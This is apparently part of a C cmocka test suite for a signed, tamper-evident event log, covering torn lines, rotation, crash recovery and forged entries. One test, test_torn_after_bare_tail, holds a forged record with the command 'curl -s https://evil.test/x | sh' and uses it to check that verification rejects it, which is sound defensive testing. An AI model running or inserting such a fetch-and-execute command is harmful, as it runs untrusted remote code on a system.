	assert_int_equal(logverify_cut_rotate(p, strlen(p), r, rl), 0);
	free(p);
	/* The attacker's line before the rotate line, writer down. */
	free(l.v[0]);
	l.v[0] = rotate_renewed(r, "\"sig\":\"", sig, 0);
	l.v[0][strlen(l.v[0]) - 2] = '\0';	/* cut: "} */
	lines_write(&l, t->path, 0, 2);
	lines_free(&l);
	if (rotate_killed_verify(t, 0, 1, &v) != CKVERIFY_UNTRUSTED)
		fail_msg("writer down: %s%s", v.what, v.chain.what);
	err = stderr_of(start_once, t);
	if (strstr(err, "not it cut short") == NULL)
		fail_msg("start said: %s", err);
	free(err);
	lines_read(&l, t->path);
	assert_true(l.n > 2 && strstr(l.v[2], "\"torn\":0,") != NULL);
	lines_free(&l);
	if (rotate_killed_verify(t, 0, 1, &v) != CKVERIFY_UNTRUSTED)
		fail_msg("started again: %s%s", v.what, v.chain.what);
}

/*
 * atk20r30 F2: a crash loop's cut rotate lines, more than the 8 KiB a
 * start's scan reads first, before the rotate line of a start killed
 * after it: the next start counts them all and verify --key passes the
 * untouched log (before: it counted none, "N torn line(s) ... which
 * counts fewer (0)" for good).
 */
static void
test_rotate_line_torn_past_window(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	char			 want[40];
	FILE			*f;
	int			 i;

	rotate_line_killed(t, 0, 300);
	rotate_line_then_killed(t);
	lines_read(&l, t->path);
	assert_true(strlen(l.v[0]) == 300);
	assert_non_null(f = fopen(t->path, "wb"));
	for (i = 0; i < 30; i++)
		fprintf(f, "%s\n", l.v[0]);
	fprintf(f, "%s\n", l.v[1]);
	fclose(f);
	lines_free(&l);
	if (rotate_killed_verify(t, 0, 1, &v) != CKVERIFY_OK)
		fail_msg("writer down: %s%s", v.what, v.chain.what);
	open_close(t, 1);
	lines_read(&l, t->path);
	snprintf(want, sizeof(want), "\"torn\":%d,", 30);
	if (l.n < 32 || strstr(l.v[31], "\"log.resume\"") == NULL ||
	    strstr(l.v[31], want) == NULL)
		fail_msg("after the start: %s", l.n > 31 ? l.v[31] : "");
	lines_free(&l);
	if (rotate_killed_verify(t, 0, 1, &v) != CKVERIFY_OK)
		fail_msg("started again: %s%s", v.what, v.chain.what);
}

/*
 * The writer's first line (an open checkpoint) cut 40 bytes in by a
 * short write, in a file that refuses truncation: a torn line it left.
 */
static void
cut_first(struct tmp *t, struct checkpoint *ck)
{
	struct rlimit	 was, cut;
	struct stat	 st;
	void		(*old)(int);

	assert_int_equal(stat(t->path, &st), 0);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
	cut = was;
	cut.rlim_cur = (rlim_t)st.st_size + 40;
	old = signal(SIGXFSZ, SIG_IGN);
	refuse_truncate = t->path;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &cut), 0);
	assert_int_equal(checkpoint_write(ck, "open"), -1);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
	refuse_truncate = NULL;
	signal(SIGXFSZ, old);
}

/* The writer's anchor holds what. */
static void
anchor_says(struct tmp *t, const char *what)
{
	char	 anchor[200], *text;
	size_t	 len;

	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	text = file_read(anchor, &len);
	if (strstr(text, what) == NULL)
		fail_msg("anchor: %s", text);
	free(text);
}

/*
 * atk20r20 F5 (and F1's controller form): a writer that stops with a
 * torn line it left after its last line names it in its anchor
 * (tail=..., torn=1:H). Torn lines put after it while it is stopped, or
 * bytes put before its own, fail verify --key --anchor at once and after
 * the next start; the log as left passes both times.
 */
static void
test_torn_after_tail(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	const char		*paths[1] = { t->path };
	EVP_PKEY		*k;
	int			 how;

	for (how = 0; how < 3; how++) {
		tmp_renew(t);
		k = signed_log(t, 100, 3, "close");
		log = open_signed(t, 100, 60, &ck);
		cut_first(t, ck);
		checkpoint_free(ck);
		eventlog_close(log);
		anchor_says(t, " torn=1:");
		if (how == 1)
			append_raw(t->path, "\n" "{\"ts\":\"2026-12-03T09:00:00.0");
		if (how == 2) {		/* a prefix before the writer's bytes */
			append_raw(t->path, "\n");
			lines_read(&l, t->path);
			lines_write(&l, t->path, 0, l.n - 1);
			append_raw(t->path, "{\"ts\":\"2026-12-03T09:00:00.000000Z"
			    "\",\"seq\":9,\"event\":\"egress.allowed\",\"note\":");
			append_raw(t->path, l.v[l.n - 1]);
			lines_free(&l);
		}
		append_raw(t->path, "\n");
		verify_expect(t, paths, 1, k, how == 0, "stopped", how);
		reopen_and_close(t);
		verify_expect(t, paths, 1, k, how == 0, "started again", how);
		EVP_PKEY_free(k);
	}
}

/*
 * atk20r22 F1: a writer that stops past its close with no torn line of its
 * own (its close did not fit: tail=8, torn=0). A forged event's prefix put
 * after the tail while it is stopped, with or without its newline, is not
 * the writer's torn line: the next start does not vouch for it (its
 * log.resume counts none) and verify --key --anchor fails it. Before, the
 * next writer counted and hashed the bytes it found and verify passed.
 */
static void
test_torn_after_bare_tail(void **state)
{
	static const char forged[] = "{\"ts\":\"2026-12-03T18:10:00.000000Z\","
	    "\"seq\":99,\"event\":\"run.exec\",\"command\":\"curl -s "
	    "https://evil.test/x | sh\",\"exit_code\":0,\"note\":\"";
	struct tmp		*t = *state;
	const char		*paths[1] = { t->path };
	EVP_PKEY		*k;
	int			 how;

	for (how = 0; how < 3; how++) {
		tmp_renew(t);
		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
		reopened_left_only(t);			/* tail=8 */
		anchor_says(t, " torn=0:");
		if (how > 0)
			append_raw(t->path, forged);
		if (how == 2)
			append_raw(t->path, "\n");
		reopen_and_close(t);
		verify_expect(t, paths, 1, k, how == 0, "started again", how);
		EVP_PKEY_free(k);
	}
}

/*
 * The length of the first line the next writer puts in the log (measured
 * in a child, the log and the anchor then put back as they were).
 */
static off_t
next_line_len(struct tmp *t)
{
	struct checkpoint	*ck;
	char			 anchor[200], *saved, *text;
	struct stat		 st;
	size_t			 len, alen;
	pid_t			 pid;
	int			 status;
	FILE			*f;

	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	saved = file_read(anchor, &alen);
	assert_int_equal(stat(t->path, &st), 0);
	if ((pid = fork()) == 0) {
		(void)open_signed(t, 100, 60, &ck);
		_exit(checkpoint_write(ck, "open") == 0 ? 0 : 1);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
	text = file_read(t->path, &len);
	assert_true(len > (size_t)st.st_size);
	len = strcspn(text + st.st_size, "\n") + 1;
	free(text);
	assert_int_equal(truncate(t->path, st.st_size), 0);
	assert_non_null(f = fopen(anchor, "wb"));
	assert_int_equal(fwrite(saved, 1, alen, f), alen);
	assert_int_equal(fclose(f), 0);
	free(saved);
	return (off_t)len;
}

/*
 * A writer on a full volume: room for room bytes more; its short writes
 * are taken back (the file can be truncated).
 */
static void
writer_full(struct tmp *t, off_t room)
{
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct rlimit		 rl, was;
	struct stat		 st;
	void			(*old)(int);

	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(stat(t->path, &st), 0);
	old = signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
	rl = was;
	rl.rlim_cur = (rlim_t)(st.st_size + room);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &rl), 0);
	assert_int_equal(checkpoint_write(ck, "open"), -1);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
	signal(SIGXFSZ, old);
	checkpoint_free(ck);
	eventlog_close(log);
}

/*
 * atk20r22 F2: a writer whose first lines after the anchor's tail go in
 * (whole, or cut and kept: an append-only file on a full volume) but whose
 * log.resume does not names them in its anchor (tail=, torn=) though its
 * log.resume stays due: the next writer finds the log ending where the
 * anchor says, and verify --key --anchor passes the untouched log. Before,
 * the anchor was written back as read and verify failed it for good.
 * how 0: A's cut line kept (torn=1), B's log.outage cut and kept ("2 torn
 * lines ... counts fewer (1)"); 1: A left seq 8 (tail=8), B nothing (a
 * full volume), C's log.outage whole, its log.resume cut and taken back
 * ("line(s) ... follow the writer's close").
 */
static void
test_resume_due_names_own(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	const char		*paths[1] = { t->path };
	EVP_PKEY		*k;
	int			 how;

	for (how = 0; how < 2; how++) {
		tmp_renew(t);
		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
		if (how == 0) {
			log = open_signed(t, 100, 60, &ck);	/* A */
			append_n(log, 40, 1);			/* seq 8 */
			cut_first(t, ck);
			checkpoint_free(ck);
			eventlog_close(log);
			log = open_signed(t, 100, 60, &ck);	/* B */
			cut_first(t, ck);
			checkpoint_free(ck);
			eventlog_close(log);
		} else {
			reopened_left_only(t);			/* A */
			writer_full(t, 0);			/* B */
			writer_full(t, next_line_len(t) + 20);	/* C */
		}
		reopen_and_close(t);
		verify_expect(t, paths, 1, k, 1, "started again", how);
		reopen_and_close(t);
		verify_expect(t, paths, 1, k, 1, "and again", how);
		EVP_PKEY_free(k);
	}
}

int
main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, tmp_setup, tmp_teardown)
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_message),
		cmocka_unit_test(test_b64_ts),
		T(test_key_warm),
		T(test_key_encrypted),
		T(test_keys),
		T(test_sign_verify),
		T(test_seq_after_append),
		T(test_rewritten_tail),
		T(test_cut_tail),
		T(test_rotation),
		T(test_retired_key),
		T(test_malformed),
		T(test_shared),
		cmocka_unit_test(test_anchor_parse),
		T(test_sole_signer),
		T(test_resume_after_close),
		T(test_resume_after_crash),
		T(test_reopened_left_tail),
		T(test_tail_cut_to_close),
		T(test_torn_first_line_after_close),
		T(test_tail_tampered_resume_refused),
		T(test_anchor_parse_reopened),
		T(test_resume_cut),
		T(test_resume_shared),
		T(test_rotate_first_line),
		T(test_keys_and_empty),
		T(test_resume_stale_anchor),
		T(test_anchor_room),
		T(test_not_torn_with_blank),
		T(test_seq_overflow),
		T(test_seq_planted_near_bound),
		T(test_rotated_files_removed),
		T(test_rotated_files_planted),
		T(test_seq_planted_linked),
		T(test_rotated_files_copied),
		T(test_rotated_files_linked),
		T(test_rotated_files_restart),
		T(test_rotated_files_shifted),
		T(test_rotation_name_taken),
		T(test_reopen_name_taken),
		T(test_reopen_planted_first),
		T(test_reopen_aside_names_taken),
		T(test_log_outage_recorded),
		T(test_reopen_hard_link),
		T(test_log_outage_restart),
		T(test_log_outage_cut),
		T(test_open_due_until_written),
		T(test_open_before_first_event),
		T(test_key_at_clean_restart),
		T(test_open_anchored_before_event),
		T(test_event_refused_while_open_due),
		T(test_log_outage_no_anchor),
		T(test_reopen_gap_first),
		T(test_seq_planted_split),
		T(test_rotation_gap),
		T(test_resume_anchor_rotated_away),
		T(test_killed_after_close_reopened),
		T(test_record_without_close),
		T(test_killed_at_open_after_close),
		T(test_killed_after_key_line),
		T(test_killed_after_own_close),
		T(test_two_kills_after_close),
		T(test_burst_anchored),
		T(test_torn_after_close),
		T(test_planted_resume_reopened),
		T(test_untrusted_after_anchored_close),
		T(test_reopen_refused),
		T(test_no_room_lost_in_place),
		T(test_unanchored_lines_resumed),
		T(test_torn_inserted),
		T(test_torn_past_lost),
		T(test_torn_bytes),
		T(test_torn_found_at_start),
		T(test_torn_rotated_away),
		T(test_torn_planted_before_rotate),
		T(test_torn_declared_rotated_again),
		T(test_torn_rotate_durable),
		T(test_rotate_line_killed),
		T(test_rotate_line_planted),
		T(test_rotate_line_free_text),
		T(test_rotate_line_torn_past_window),
		T(test_reopen_durable),
		T(test_torn_after_tail),
		T(test_torn_after_bare_tail),
		T(test_resume_due_names_own),
		T(test_short_write),
		T(test_torn_before_resume),
	};
#undef T

	return cmocka_run_group_tests(tests, NULL, NULL);
}
